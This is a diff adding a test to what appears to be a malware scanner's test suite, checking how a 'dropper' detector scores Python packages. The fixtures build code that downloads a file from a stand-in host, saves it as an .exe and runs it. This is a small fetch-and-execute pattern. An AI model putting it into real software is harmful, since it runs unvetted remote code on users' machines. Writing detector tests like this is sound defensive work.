@@ -183,3 +183,20 @@ test('a module that fetches its own next version at import is malware', async ()
 
   expect(await inspect('dropper', file)).toMatchObject([{ class: 'malware', score: 10, line: 2 }]);
 });
+
+test('a command that installs and starts the extension that its user names stays below quarantine', async () => {
+  const code = (url: string, name: string): string =>
+    python(
+      'import pathlib, requests, subprocess',
+      'def run(extension):',
+      `    body = requests.get(${url}).content`,
+      `    path = pathlib.Path.home() / '.tool' / ${name}`,
+      '    path.write_bytes(body)',
+      '    subprocess.call([str(path)])',
+    );
+  const chosen = code("'https://plugins.tool.example/x/' + extension", "(extension + '.exe')");
+  const fixed = code("'https://plugins.tool.invalid/x/a'", "'agent.exe'");
+
+  expect(await inspect('dropper', wheel({ 'pkg/__init__.py': chosen }))).toMatchObject([{ score: 4 }]);
+  expect(await inspect('dropper', wheel({ 'pkg/__init__.py': fixed }))).toMatchObject([{ score: 9 }]);
+});
